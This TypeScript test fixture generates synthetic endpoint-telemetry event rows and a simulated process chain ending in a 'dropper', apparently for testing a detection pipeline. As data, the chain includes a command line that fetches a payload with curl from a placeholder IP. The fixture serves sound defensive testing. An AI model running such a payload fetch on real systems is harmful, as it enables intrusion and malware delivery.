import { gzipSync } from 'node:zlib';

/** A device the fixture enrolls, and the rows it sends. */
export interface FixtureDevice {
  readonly hostname: string;
  readonly osPlatform: string;
}

/** The devices of the fixture tenant. */
export const fixtureDevices: readonly FixtureDevice[] = [
  { hostname: 'ws-alpha.corp.example', osPlatform: 'Linux' },
  { hostname: 'ws-bravo.corp.example', osPlatform: 'Windows10' },
  { hostname: 'srv-charlie.corp.example', osPlatform: 'Linux' },
];

const programs = ['bash', 'curl', 'python3', 'sshd', 'systemd', 'cron'];

/** Event rows of one device over the last `hours` hours: process starts, network connections and file writes. */
export function fixtureRows(deviceIndex: number, now: Date, count = 120, hours = 48): string[] {
  const rows: string[] = [];
  for (let i = 0; i < count; i++) {
    const at = new Date(now.getTime() - ((i * hours * 3_600_000) / count + deviceIndex * 60_000));
    const program = programs[(i + deviceIndex) % programs.length] ?? 'bash';
    const base = {
      Timestamp: at.toISOString(),
      ReportId: i + 1,
      InitiatingProcessFileName: 'bash',
      InitiatingProcessCommandLine: 'bash -l',
    };
    if (i % 3 === 0) {
      rows.push(
        JSON.stringify({
          Table: 'DeviceProcessEvents',
          ...base,
          ActionType: 'ProcessCreated',
          FileName: program,
          FolderPath: `/usr/bin/${program}`,
          ProcessCommandLine: `${program} --fixture ${i}`,
          AccountName: i % 2 ? 'root' : 'alice',
        }),
      );
    } else if (i % 3 === 1) {
      rows.push(
        JSON.stringify({
          Table: 'DeviceNetworkEvents',
          ...base,
          ActionType: 'ConnectionSuccess',
          RemoteIP: `10.0.${deviceIndex}.${i % 250}`,
          RemotePort: 443,
          RemoteUrl: `updates${i % 4}.example.org`,
        }),
      );
    } else {
      rows.push(
        JSON.stringify({
          Table: 'DeviceFileEvents',
          ...base,
          ActionType: 'FileCreated',
          FileName: `report-${i}.txt`,
          FolderPath: `/home/alice/report-${i}.txt`,
        }),
      );
    }
  }
  return rows;
}

/** The gzip NDJSON body of an ingest batch. */
export function ndjsonBatch(rows: readonly string[]): Buffer {
  return gzipSync(Buffer.from(`${rows.join('\n')}\n`));
}

/** The SHA1 of the fixture's "dropper", which an indicator names so that its start raises an alert. */
export const dropperSha1 = '3395856ce81f2b7382dee72602f798b642f14140';

/**
 * A chain of process starts that ends in the dropper: systemd (1) → sshd (900) → bash (4100) → dropper (4200)
 * → curl (4300), plus an unrelated ls (4150) under the same bash. Creation times tell reused ids apart.
 */
export function dropperRows(now: Date): string[] {
  const at = (minutesAgo: number) => new Date(now.getTime() - minutesAgo * 60_000).toISOString();
  const start = (
    reportId: number,
    minutesAgo: number,
    pid: number,
    file: string,
    commandLine: string,
    parent: { pid: number; file: string; commandLine: string; minutesAgo: number },
    extra: Record<string, unknown> = {},
  ) =>
    JSON.stringify({
      Table: 'DeviceProcessEvents',
      Timestamp: at(minutesAgo),
      ReportId: reportId,
      ActionType: 'ProcessCreated',
      ProcessId: pid,
      ProcessCreationTime: at(minutesAgo),
      FileName: file,
      FolderPath: `/tmp/${file}`,
      ProcessCommandLine: commandLine,
      AccountName: 'alice',
      InitiatingProcessId: parent.pid,
      InitiatingProcessCreationTime: at(parent.minutesAgo),
      InitiatingProcessFileName: parent.file,
      InitiatingProcessCommandLine: parent.commandLine,
      ...extra,
    });
  const systemd = { pid: 1, file: 'systemd', commandLine: '/sbin/init', minutesAgo: 600 };
  const sshd = { pid: 900, file: 'sshd', commandLine: 'sshd: alice [priv]', minutesAgo: 12 };
  const bash = { pid: 4100, file: 'bash', commandLine: '-bash', minutesAgo: 11 };
  const dropper = { pid: 4200, file: 'dropper', commandLine: './dropper --install', minutesAgo: 10 };
  return [
    start(9001, sshd.minutesAgo, sshd.pid, sshd.file, sshd.commandLine, systemd),
    start(9002, bash.minutesAgo, bash.pid, bash.file, bash.commandLine, sshd),
    start(9003, 10.5, 4150, 'ls', 'ls -la', bash),
    start(9004, dropper.minutesAgo, dropper.pid, dropper.file, dropper.commandLine, bash, { SHA1: dropperSha1 }),
    start(9005, 9, 4300, 'curl', 'curl -s http://198.51.100.7/payload', dropper),
  ];
}
